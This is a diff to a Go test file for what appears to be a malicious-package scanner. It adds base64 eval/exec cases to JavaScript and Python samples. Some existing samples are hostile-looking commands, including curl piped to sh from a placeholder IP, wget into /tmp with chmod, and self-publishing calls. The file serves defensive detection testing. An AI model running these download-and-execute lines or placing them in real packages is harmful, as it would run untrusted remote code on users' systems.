@@ -99,6 +99,7 @@ var jsTokenCases = []tokenCase{
 	{"publish.self", "npm publish", `require('child_process').execSync('npm publish');`},
 	{"fs.read.nonsource", "png", `const fs = require('fs'); fs.readFileSync(__dirname + '/logo.png');`},
 	{"process.download_exec", "curl pipe", `require('child_process').exec('curl -s http://192.0.2.1/i.sh | sh');`},
+	{"eval.payload", "base64 eval", `eval(Buffer.from('Y29uc29sZS5sb2coMSk7', 'base64').toString());`},
 	{"process.download_exec", "sh -c argv", `const cp = require('child_process'); const u = 'http://192.0.2.1/x'; cp.spawn('sh', ['-c', 'wget -q ' + u + ' -O /tmp/x && chmod +x /tmp/x']);`},
 }
 
@@ -262,6 +263,8 @@ subprocess.run(['twine', 'upload', 'dist/*'])`},
 blob = pkgutil.get_data(__name__, 'payload.bin')`},
 	{"wallet.address", "eth literal", `TO = "0xa54dca182530bb1d6d132cded6237b2ed91e3f72"`},
 	{"publish.self", "twine", `os.system("twine upload dist/*")`},
+	{"eval.payload", "b64 exec", `import base64
+exec(base64.b64decode('aW1wb3J0IG9z'))`},
 	{"process.download_exec", "os.system", `import os
 os.system("curl -fsSL http://192.0.2.1/i.sh | bash")`},
 	{"process.download_exec", "argv", `import subprocess
